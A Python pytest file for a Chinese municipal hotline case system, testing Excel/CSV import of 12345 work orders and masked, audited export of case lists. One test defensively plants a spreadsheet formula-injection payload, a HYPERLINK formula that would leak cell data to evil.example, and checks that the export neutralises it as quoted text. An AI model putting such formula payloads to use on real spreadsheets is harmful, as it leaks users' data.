"""The 12345 hotline import (all-or-nothing, row errors, keyword classification) and the Excel
export of a filtered case list (scoped, masked unless unmasked and audited)."""

from __future__ import annotations

import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from minsheng.accounts.models import AuditLog
from minsheng.cases import clocks, exchange, workflow
from minsheng.cases.models import Case, CaseEvent, CaseType
from minsheng.places import coords
from minsheng.places.exchange import ImportRejected
from minsheng.places.models import Compound, Region
from tests.hostile import attack_whole_file

pytestmark = pytest.mark.django_db
TZ = ZoneInfo("Asia/Shanghai")
EXCEL_TIME = dt.datetime(2024, 6, 1, 9, 15)  # noqa: DTZ001 - Excel cells hold naive local time
HEADERS = ["工单编号*", "来电时间*", "诉求类别", "诉求内容*", "地址", "经度", "纬度", "小区名称",
           "来电人", "联系电话"]


def street(k: int) -> Region:
    return Region.objects.filter(parent_id="131002000000").order_by("code")[k]


def unique_compound(s: Region, skip: int = 0) -> Compound:
    """A compound of the street whose name no other compound of the district shares."""
    names = {}
    for c in Compound.objects.filter(region__code__startswith="131002"):
        names[c.name] = names.get(c.name, 0) + 1
    found = [c for c in Compound.objects.filter(region__code__startswith=s.code[:9],
                                                lat__isnull=False).order_by("pk")
             if names[c.name] == 1]
    return found[skip]


def xlsx(rows: list[list], headers: list[str] = HEADERS) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(headers)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def upload(content: bytes, name: str = "orders.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def read(content: bytes) -> list[list]:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_template_headers(client_for):
    resp = client_for("street1").get("/cases/import/template.xlsx")
    assert resp.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(resp.content))
    assert [c.value for c in wb.worksheets[0][1]] == HEADERS
    assert exchange.template_headers() == HEADERS
    notes = [r[0] for r in wb["说明"].iter_rows(values_only=True) if r and r[0]]
    assert "物业维修" in notes and "诉求类别" in notes
    assert client_for("viewer1").get("/cases/import/template.xlsx").status_code == 403


def test_good_file_imports_every_row(user):
    s1 = street(0)
    a, b = unique_compound(s1, 0), unique_compound(s1, 1)
    glng, glat = coords.from_wgs84(a.lng, a.lat, "gcj02")  # the file is in GCJ-02
    content = xlsx([
        ["12345-A1", "2024-06-01 08:30", "物业维修", "单元门禁坏了", "某路1号", glng, glat, "",
         "王芳", "13812345678"],
        ["12345-A2", EXCEL_TIME, "environment", "垃圾没人清运", "", None, None, b.name, "李强",
         "0316-1234567"],
        ["12345-A3", "2024/6/1 10:00", "", "小区下水道堵塞，污水外溢", "", glng, glat, "", "",
         ""],
    ])
    before = Case.objects.count()
    result = exchange.import_hotline(user("street1"), content, "orders.xlsx", "gcj02")
    assert result.created == 3
    assert Case.objects.count() == before + 3
    cases = {c.external_id: c for c in Case.objects.filter(external_id__startswith="12345-A")}
    assert set(cases) == {"12345-A1", "12345-A2", "12345-A3"}
    assert all(c.channel == Case.Channel.HOTLINE for c in cases.values())
    one = cases["12345-A1"]
    assert one.case_type_id == "property_repair"
    assert one.created_at == dt.datetime(2024, 6, 1, 8, 30, tzinfo=TZ)
    # the clocks count working time (cases.clocks) from the hotline's own filing time
    assert (one.accept_due, one.resolve_due) == clocks.deadlines(
        one.case_type, one.created_at, one.priority)
    assert abs(one.lng - a.lng) < 1e-5 and abs(one.lat - a.lat) < 1e-5  # converted to WGS-84
    assert one.region_id.startswith(s1.code[:9])
    assert one.reporter_name == "王芳" and one.reporter_phone == "13812345678"
    assert cases["12345-A2"].compound_id == b.pk and cases["12345-A2"].case_type_id == "environment"
    assert cases["12345-A3"].case_type_id == "sewage"  # classified by its keywords
    assert one.events.filter(action=CaseEvent.Action.CREATED).exists()
    assert one.events.filter(action=CaseEvent.Action.ROUTED).exists()
    assert AuditLog.objects.filter(action=AuditLog.Action.IMPORT, object_type="cases.case").exists()


def test_import_page(client_for):
    a = unique_compound(street(0), 2)
    content = xlsx([["12345-P1", "2024-06-02 08:00", "噪声扰民", "夜间施工", "", a.lng, a.lat, "",
                     "", ""]])
    c = client_for("district")
    assert c.get("/cases/import/").status_code == 200
    resp = c.post("/cases/import/", {"crs": "wgs84", "file": upload(content)}, follow=True)
    assert resp.status_code == 200
    assert Case.objects.filter(external_id="12345-P1", channel="hotline").count() == 1
    # no coordinate system chosen: the form refuses
    resp = c.post("/cases/import/", {"file": upload(content)})
    assert resp.status_code == 200 and resp.context["form"].errors.get("crs")
    for who in ("viewer1", "dept1", "mediator1", "resident1"):
        assert client_for(who).get("/cases/import/").status_code == 403


def test_bad_file_is_rejected_whole(user, client_for):
    s1 = street(0)
    a = unique_compound(s1, 0)
    other_district = Region.objects.get(code="140213000000")
    far = Compound.objects.filter(region__code__startswith="140213").first()
    existing = workflow.do_file(case_type=CaseType.objects.get(code="noise"), description="旧工单",
                                channel=Case.Channel.HOTLINE, compound=a,
                                external_id="12345-OLD")
    rows = [
        ["12345-B1", "昨天上午", "物业维修", "门禁坏了", "", a.lng, a.lat, "", "", ""],  # 2 time
        ["12345-B2", "2024-06-01 08:00", "外星人入侵", "飞碟", "", a.lng, a.lat, "", "", ""],  # 3
        ["12345-B3", "2024-06-01 08:00", "物业维修", "门禁坏了", "", 116.397, 39.909, "", "", ""],
        ["12345-B4", "2024-06-01 08:00", "物业维修", "门禁坏了", "", far.lng, far.lat, "", "",
         ""],  # 5: another district (outside the importer's region)
        ["12345-B5", "2024-06-01 08:00", "物业维修", "门禁坏了", "", a.lng, a.lat, "", "", ""],
        ["12345-B5", "2024-06-01 09:00", "物业维修", "楼道灯不亮", "", a.lng, a.lat, "", "", ""],
        ["12345-OLD", "2024-06-01 08:00", "物业维修", "门禁坏了", "", a.lng, a.lat, "", "", ""],
        ["12345-B8", "2024-06-01 08:00", "", "今天想说点什么", "", a.lng, a.lat, "", "", ""],
        ["12345-B9", "2024-06-01 08:00", "物业维修", "门禁坏了", "", "", "", "", "", ""],
        ["12345-B10", "2024-06-01 08:00", "物业维修", "门禁坏了", "", a.lng, a.lat, "", "",
         "138****5678"],
    ]
    assert other_district.boundary is not None
    cases, events, audits = Case.objects.count(), CaseEvent.objects.count(), AuditLog.objects.count()
    with pytest.raises(ImportRejected) as e:
        exchange.import_hotline(user("street1"), xlsx(rows), "bad.xlsx", "wgs84")
    where = {(err.row, err.column) for err in e.value.errors}
    assert (2, "来电时间") in where
    assert (3, "诉求类别") in where
    assert (4, "经度") in where
    assert (5, "经度") in where
    assert (7, "工单编号") in where  # duplicate of row 6 within the file
    assert (8, "工单编号") in where  # already imported
    assert (9, "诉求类别") in where  # no category and no keyword found
    assert (9 + 1, "经度") in where  # no location at all
    assert (11, "联系电话") in where  # masked number
    assert (6, "工单编号") not in where
    assert "不在本区范围内" in next(x.message for x in e.value.errors if x.row == 4)
    assert "不在您管辖的区划内" in next(x.message for x in e.value.errors if x.row == 5)
    assert Case.objects.count() == cases  # nothing written
    assert CaseEvent.objects.count() == events
    assert AuditLog.objects.count() == audits
    assert existing.pk

    resp = client_for("street1").post("/cases/import/", {"crs": "wgs84",
                                                         "file": upload(xlsx(rows))})
    assert resp.status_code == 200
    assert len(resp.context["errors"]) == len(e.value.errors)
    assert resp.context["report"]
    assert Case.objects.count() == cases


def test_missing_required_column(user):
    with pytest.raises(ImportRejected) as e:
        exchange.import_hotline(user("district"), xlsx([["X1", "2024-06-01 08:00"]],
                                                       headers=["工单编号", "来电时间"]),
                                "x.xlsx", "wgs84")
    assert any(err.column == "诉求内容" for err in e.value.errors)


def test_keyword_classification():
    assert exchange.classify("小区下水道堵塞，污水外溢").code == "sewage"
    assert exchange.classify("楼上漏水到楼下，邻居纠纷").code == "neighbour_dispute"
    assert exchange.classify("电动车在楼道充电，有安全隐患").code == "safety_hazard"
    assert exchange.classify("今天天气不错") is None


def test_import_refused_for_others(user):
    with pytest.raises(PermissionError):
        exchange.import_hotline(user("viewer1"), xlsx([]), "x.xlsx", "wgs84")


def _export(client, query: str = ""):
    resp = client.get(f"/cases/export.xlsx{query}")
    assert resp.status_code == 200, resp.status_code
    rows = read(resp.content)
    return rows[0], rows[1:]


def test_export_scoped_and_masked(client_for):
    s1, s2 = street(0), street(1)
    header, rows = _export(client_for("street1"))
    code, phone = header.index("区划代码"), header.index("联系电话")
    assert rows and all(r[code].startswith(s1.code[:9]) for r in rows)
    assert not any(r[code].startswith(s2.code[:9]) for r in rows)
    phones = [r[phone] for r in rows if r[phone]]
    assert phones and all("*" in p for p in phones)

    before = AuditLog.objects.filter(action=AuditLog.Action.UNMASK).count()
    _, full = _export(client_for("street1"), "?unmask=1")
    assert any(r[phone] and "*" not in r[phone] for r in full)
    assert AuditLog.objects.filter(action=AuditLog.Action.UNMASK).count() == before + 1

    _, viewer = _export(client_for("viewer1"), "?unmask=1")  # a viewer may not unmask
    assert all("*" in r[phone] for r in viewer if r[phone])
    assert client_for("resident1").get("/cases/export.xlsx").status_code == 403


def test_export_masks_numbers_typed_into_free_text_unless_unmasked(client_for):
    comp = unique_compound(street(0))
    case = workflow.do_file(case_type=CaseType.objects.get(code="street_order"),
                            description="楼下噪音，电话13812345678，座机0316-5201234",
                            channel="resident", compound=comp, reporter_phone="13900001111",
                            address="身份证13100219800101123X家门口")
    for who, query in (("viewer1", ""), ("viewer1", "?unmask=1"), ("street1", "")):
        header, rows = _export(client_for(who), query)
        mine = next(r for r in rows if r[header.index("诉求编号")] == case.number)
        text = " ".join(str(v) for v in mine)
        assert "13812345678" not in text and "5201234" not in text
        assert "13100219800101123X" not in text and "13900001111" not in text
        assert "138****5678" in mine[header.index("诉求内容")]
    header, rows = _export(client_for("street1"), "?unmask=1")  # VIEW_PERSONAL, asked: audited
    mine = next(r for r in rows if r[header.index("诉求编号")] == case.number)
    assert mine[header.index("诉求内容")] == case.description
    assert AuditLog.objects.filter(action=AuditLog.Action.UNMASK, user__username="street1",
                                   fields__contains="description").exists()


def test_export_follows_the_list_filters(client_for):
    header, rows = _export(client_for("district"), "?status=closed&channel=hotline")
    status, channel = header.index("状态"), header.index("来源")
    assert rows and all(r[status] == "已关闭" and r[channel] == "12345 热线" for r in rows)
    _, typed = _export(client_for("district"), "?type=legal_aid")
    assert typed and all(r[header.index("类别")] == "法律咨询与法律援助" for r in typed)
    _, none = _export(client_for("district"), "?start=2031-01-01&end=2031-01-31")
    assert none == []


def test_csv_in_gbk_imports(user):
    a = unique_compound(street(0), 3)
    text = ",".join(h.rstrip("*") for h in HEADERS) + "\r\n" + \
        f"12345-C1,2024-06-03 07:45,,广场舞音响声音太大 噪音扰民,,{a.lng},{a.lat},,张敏,13512345678\r\n"
    result = exchange.import_hotline(user("street1"), text.encode("gb18030"), "orders.csv",
                                     "wgs84")
    assert result.created == 1
    c = Case.objects.get(external_id="12345-C1")
    assert c.case_type_id == "noise" and c.channel == Case.Channel.HOTLINE


def test_export_writes_formula_like_public_input_as_quoted_text(client_for):
    """An anonymous resident's text must never become a live formula in the staff's Excel."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    pk = Case.objects.filter(region__code__startswith="131002").order_by("pk").values_list(
        "pk", flat=True).first()
    Case.objects.filter(pk=pk).update(description=evil, reporter_name="@SUM(A1)",
                                      address="+86 138 0000 0000", outcome="-5")
    number = Case.objects.get(pk=pk).number
    for who in ("district", "viewer1"):
        resp = client_for(who).get("/cases/export.xlsx")
        assert resp.status_code == 200
        ws = openpyxl.load_workbook(io.BytesIO(resp.content)).active
        header = [c.value for c in ws[1]]
        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == number)
        cells = {h: row[header.index(h)] for h in ("诉求内容", "联系人", "地址", "办理结果")}
        assert {h: (c.value, c.data_type) for h, c in cells.items()} == {
            "诉求内容": ("'" + evil, "s"), "联系人": ("'@SUM(A1)", "s"),
            "地址": ("'+86 138 0000 0000", "s"), "办理结果": ("'-5", "s")}
        assert not any(c.data_type == "f" for r in ws.iter_rows() for c in r)


def test_export_of_an_old_row_with_a_control_character_does_not_fail(client_for):
    pk = Case.objects.filter(region__code__startswith="131002").order_by("pk").values_list(
        "pk", flat=True).first()
    Case.objects.filter(pk=pk).update(description="路灯\x07不亮\n已两天")  # stored before the check
    number = Case.objects.get(pk=pk).number
    header, rows = _export(client_for("district"))
    row = next(r for r in rows if r[0] == number)
    assert row[header.index("诉求内容")] == "路灯\ufffd不亮\n已两天"


def test_a_whole_file_with_one_hostile_cell_is_taken_whole_or_refused_whole(user):
    s1 = street(0)
    a, b = unique_compound(s1, 0), unique_compound(s1, 1)
    good = ["12345-W1", "2024-06-01 08:30", "物业维修", "单元门禁坏了", "某路1号", a.lng, a.lat, "",
            "王芳", "13812345678"]
    second = ["12345-W2", "2024-06-01 09:15", "environment", "垃圾没人清运", "", b.lng, b.lat,
              b.name, "李强", "0316-1234567"]
    findings = attack_whole_file(
        HEADERS, good, second,
        lambda content, name: exchange.import_hotline(user("street1"), content, name, "wgs84"),
        Case.objects.count)
    assert not findings, "\n".join(findings)
